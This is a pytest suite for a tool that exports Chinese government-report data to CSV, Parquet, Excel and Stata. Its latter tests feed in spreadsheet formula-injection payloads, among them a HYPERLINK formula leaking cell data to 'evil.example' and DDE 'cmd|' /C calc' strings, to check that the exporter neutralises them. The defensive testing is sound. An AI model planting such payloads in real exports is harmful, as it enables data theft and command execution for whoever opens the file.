"""Exports read back with pandas / pyarrow: CSV, Parquet, XLSX, Stata .dta."""

from __future__ import annotations

import pandas as pd
import pyarrow.parquet as pq
import pytest
from test_store_support import fact, make_report

from govreport.errors import QueryError
from govreport.export import FORMATS, STATA_STR_MAX, export, facts_frame

LONG = "粮食" * 1500  # a sentence longer than a Stata string may be


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    from govreport.store import open_store

    s = open_store(tmp_path_factory.mktemp("export") / "e.db")
    s.write_report(make_report("gs_2021", "甘肃省", 2021, [
        fact("target", "2021", "gdp", "growth", 6.0, "%", "min", "全省生产总值增长6%以上。", "6%以上"),
        fact("actual", "2020", "grain_output", "level", 1.2e7, "吨", "exact", "粮食总产量240亿斤。" + LONG,
             "240亿斤"),
        fact("actual", "2020", None, "change", 1.5, "个百分点", "exact", "提高1.5个百分点。\x0b", "1.5个百分点"),
    ], admin_code="620000"), sha256="1" * 64)
    s.write_report(make_report("gs_2022", "甘肃省", 2022, [
        fact("actual", "2021", "gdp", "growth", 6.9, "%", "exact", "全省生产总值增长6.9%。", "6.9%"),
    ], admin_code="620000"), sha256="2" * 64)
    yield s
    s.close()


def _read(fmt: str, path):
    if fmt == "csv":
        return pd.read_csv(path, dtype={"admin_code": str})
    if fmt == "parquet":
        return pq.read_table(path).to_pandas()
    if fmt == "xlsx":
        return pd.read_excel(path, dtype={"admin_code": str})
    return pd.read_stata(path)


@pytest.mark.parametrize("fmt", FORMATS)
def test_fact_export_round_trip(store, tmp_path, fmt):
    out = tmp_path / f"facts.{fmt}"
    assert export(store, fmt, out) == 4
    df = _read(fmt, out)
    assert len(df) == 4
    assert all(len(c) <= 32 and c.isascii() for c in df.columns)
    first = df.iloc[0]
    assert first["region"] == "甘肃省" and str(first["admin_code"]) == "620000"
    assert first["indicator"] == "gdp" and first["indicator_name"] == "地区生产总值"
    assert float(first["value"]) == 6.0 and first["bound"] == "min" and first["unit"] == "%"
    assert first["evidence"] == "6%以上" and first["sentence"] == "全省生产总值增长6%以上。"
    assert int(first["report_year"]) == 2021 and str(first["period"]) == "2021"
    grain = df.iloc[1]
    assert float(grain["value"]) == 1.2e7 and grain["indicator_name"] == "粮食总产量"
    if fmt == "dta":
        assert len(grain["sentence"]) == STATA_STR_MAX
        labels = pd.io.stata.StataReader(out).variable_labels()
        assert labels["indicator_name"] == "指标名称"
    else:
        assert grain["sentence"].endswith(LONG)
    assert pd.isna(df.iloc[2]["indicator"]) or df.iloc[2]["indicator"] == ""
    assert df.iloc[2]["sentence"].rstrip("\x0b") == "提高1.5个百分点。"


@pytest.mark.parametrize("fmt", FORMATS)
def test_track_export_round_trip(store, tmp_path, fmt):
    out = tmp_path / f"track.{fmt}"
    assert export(store, fmt, out, track_targets=True) == 1
    row = _read(fmt, out).iloc[0]
    assert row["verdict"] == "met" and row["indicator"] == "gdp"
    assert float(row["target_value"]) == 6.0 and float(row["outcome_value"]) == 6.9
    assert float(row["gap"]) == pytest.approx(0.9)
    assert row["target_report"] == "gs_2021" and row["outcome_report"] == "gs_2022"
    assert row["outcome_evidence"] == "6.9%"


def test_too_many_rows_for_excel(store, tmp_path, monkeypatch):
    import govreport.export as export_module

    monkeypatch.setattr(export_module, "XLSX_MAX_ROWS", 3)
    with pytest.raises(QueryError, match="Excel"):
        export(store, "xlsx", tmp_path / "x.xlsx")
    assert not (tmp_path / "x.xlsx").exists()


def test_filters_and_bad_format(store, tmp_path):
    assert len(facts_frame(store, indicator="gdp")) == 2
    with pytest.raises(QueryError):
        export(store, "sav", tmp_path / "x.sav")


# -- formula injection: report text never becomes a live spreadsheet formula ------------------------

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory):
    from govreport.store import open_store

    s = open_store(tmp_path_factory.mktemp("hostile") / "h.db")
    sentence = HOSTILE + "城镇登记失业率下降0.3个百分点。"
    rows = [
        fact("actual", "2020", "gdp", "growth", -2.5, "%", "exact", "@SUM(1+1)生产总值下降2.5%。", "2.5%"),
        fact("actual", "2020", "urban_unemployment_rate", "change", -0.3, "个百分点", "exact", sentence,
             "0.3个百分点"),
        fact("target", "2021", None, "level", 5.0, "%", "max", "+cmd|' /C calc'!A0 控制在5%以内。", "5%"),
    ]
    rows[0]["indicator_text"] = "-2+3"
    rows[2]["indicator_text"] = "\t=1+1"
    rows[1]["indicator_text"] = "\r=2+2"
    s.write_report(make_report("hostile_2021", "-恶意省", 2021, rows, admin_code="990000"), sha256="9" * 64)
    yield s
    s.close()


def _assert_no_formula_text(value) -> None:
    assert not (isinstance(value, str) and value.startswith(FORMULA_START)), repr(value)


def test_xlsx_export_has_no_formula_cells_and_keeps_numbers(hostile_store, tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "h.xlsx"
    assert export(hostile_store, "xlsx", out) == 3
    ws = load_workbook(out).active
    header = [c.value for c in ws[1]]
    cells = [dict(zip(header, row, strict=True)) for row in ws.iter_rows(min_row=2)]
    for row in cells:
        for cell in row.values():
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            _assert_no_formula_text(cell.value)
    values = sorted(row["value"].value for row in cells)
    assert values == [-2.5, -0.3, 5.0]  # negative numbers stay numbers, not quoted text
    assert all(row["value"].data_type == "n" and row["report_year"].data_type == "n" for row in cells)
    sentences = {row["sentence"].value for row in cells}
    assert "'" + HOSTILE + "城镇登记失业率下降0.3个百分点。" in sentences
    assert {row["region"].value for row in cells} == {"'-恶意省"}
    assert {row["indicator_text"].value for row in cells} >= {"'-2+3", "'\t=1+1"}
    assert any(str(row["indicator_text"].value).startswith("'\r=2+2") for row in cells)


def test_csv_export_quotes_formula_text_and_keeps_numbers(hostile_store, tmp_path):
    import csv

    out = tmp_path / "h.csv"
    export(hostile_store, "csv", out)
    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == 3
    numeric = {"value", "value_max", "report_year", "period_start", "period_end", "span_start", "span_end"}
    for row in rows:
        for column, value in row.items():
            if column in numeric:
                assert value == "" or float(value) == float(value)  # a plain number, e.g. -2.5
            else:
                _assert_no_formula_text(value)
    assert sorted(float(r["value"]) for r in rows) == [-2.5, -0.3, 5.0]
    assert {r["indicator_text"] for r in rows} == {"'-2+3", "'\r=2+2", "'\t=1+1"}
    assert {r["sentence"] for r in rows} >= {"'@SUM(1+1)生产总值下降2.5%。", "'+cmd|' /C calc'!A0 控制在5%以内。"}
    # the other formats keep the text as written
    df = _read("parquet", _written(hostile_store, tmp_path, "parquet"))
    assert set(df["region"]) == {"-恶意省"}


def _written(store, tmp_path, fmt):
    out = tmp_path / f"h.{fmt}"
    export(store, fmt, out)
    return out


def _hostile_task_report():
    from govreport.model import DocMeta, Report, Span, Task

    text = "=HYPERLINK(\"http://evil.example/\",\"x\")新建高标准农田22万亩。\n-1+1推进改革。"
    tasks = (Task("=HYPERLINK(", "\"http://evil.example/\")", Span(0, 10), value=-3.0, unit="%",
                  area="@区域", department="+部门", deadline="\r2025年", sentence=text.split("\n")[0]),
             Task("推进", "改革", Span(text.index("推进"), len(text)), sentence="-1+1推进改革。"))
    return Report(DocMeta(id="=evil"), text, (), (), tasks, ())


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_task_table_cells_are_not_formulas(tmp_path, monkeypatch, fmt):
    import csv

    from click.testing import CliRunner

    from govreport.cli import text_cmds

    reports = [_hostile_task_report(), _hostile_task_report()]  # two: the 报告 column holds the id
    monkeypatch.setattr(text_cmds, "_reports", lambda paths: reports)
    monkeypatch.setattr(text_cmds, "expand_paths", lambda paths: [tmp_path / "a", tmp_path / "b"])
    out = tmp_path / f"tasks.{fmt}"
    result = CliRunner().invoke(text_cmds.tasks_command, ["a", "b", "--format", fmt, "--out", str(out)])
    assert result.exit_code == 0, result.output
    if fmt == "xlsx":  # one sheet per report, a heading row per section, then the rows
        from openpyxl import load_workbook

        cells = [c for ws in load_workbook(out).worksheets for row in ws.iter_rows() for c in row]
        assert cells and all(c.data_type != "f" for c in cells)
        for c in cells:
            _assert_no_formula_text(c.value)
        numbers = [c.value for c in cells if c.column == 1 and isinstance(c.value, int)]
        assert numbers == [1, 2, 1, 2]  # 序号 stays a number
        assert "'-1+1推进改革。" in [c.value for c in cells]
    else:
        with out.open(encoding="utf-8-sig", newline="") as fh:
            rows = list(csv.DictReader(fh))
        assert [r["序号"] for r in rows] == ["1", "2", "1", "2"]
        for row in rows:
            for value in row.values():
                _assert_no_formula_text(value)
        assert rows[0]["报告"] == "'=evil" and rows[1]["原文"] == "'-1+1推进改革。"


def test_query_csv_output_quotes_formula_text(capsys):
    import csv
    import io

    from govreport.cli.store_cmds import emit

    emit([{"report_id": "=cmd|' /C calc'!A0", "value": -2.5, "span": [3, 9], "evidence": "@SUM(A1)"}], "csv")
    (row,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
    assert row == {"report_id": "'=cmd|' /C calc'!A0", "value": "-2.5", "span": "3-9", "evidence": "'@SUM(A1)"}
